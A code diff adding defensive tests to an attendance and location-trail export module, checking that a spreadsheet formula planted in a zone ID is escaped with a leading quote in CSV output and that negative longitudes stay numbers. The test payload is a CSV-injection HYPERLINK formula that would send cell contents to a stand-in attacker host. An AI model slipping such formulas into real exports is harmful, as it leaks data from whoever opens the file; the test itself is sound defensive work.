@@ -359,6 +359,30 @@ def test_attendance_csv_and_no_coordinates(home):
     assert ex.sha256 == hashlib.sha256(ex.content).hexdigest()
 
 
+FORMULA_ZONE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+
+
+def test_attendance_csv_zone_id_is_never_a_formula(home):
+    zone = replace(CURFEW, zone_id=FORMULA_ZONE)
+    mine = (Assignment("S-OUT", "D-OUT", ms("2024-03-04T00:00:00Z"), None, (FORMULA_ZONE,)),)
+    kw = dict(subject_id="S-OUT", assignments=mine, zones=(zone,), policy=POLICY,
+              start_ms=ms("2024-03-05T12:00:00Z"), end_ms=ms("2024-03-06T12:00:00Z"))
+    ex = attendance_extract(home, fmt="csv", **kw)
+    rows = list(csv.DictReader(io.StringIO(ex.content.decode())))
+    # OWASP: a leading quote makes a spreadsheet show the text instead of running it; numbers untouched
+    assert rows == [{"zone_id": "'" + FORMULA_ZONE, "window_start": W_START, "window_end": W_END,
+                     "status": "absent", "home_s": "39600", "absent_s": "3600", "unknown_s": "0"}]
+    doc = json.loads(attendance_extract(home, fmt="json", **kw).content)  # JSON is data: the id as it is
+    assert [w["zone_id"] for w in doc["windows"]] == [FORMULA_ZONE]
+
+
+def test_trail_csv_negative_longitude_stays_a_number(home):
+    rows = list(csv.reader(io.StringIO(trail(home, fmt="csv").content.decode())))[1:]
+    lons = [row[2] for row in rows]
+    assert lons == [repr(lon) for _, (lon, _lat), _, _ in EXPECTED_B]
+    assert all(v.startswith("-") for v in lons)  # Liverpool is west of Greenwich: not "'-2.98..."
+
+
 def test_attendance_deterministic(home):
     assert attendance(home, "S-OUT") == attendance(home, "S-OUT")
 
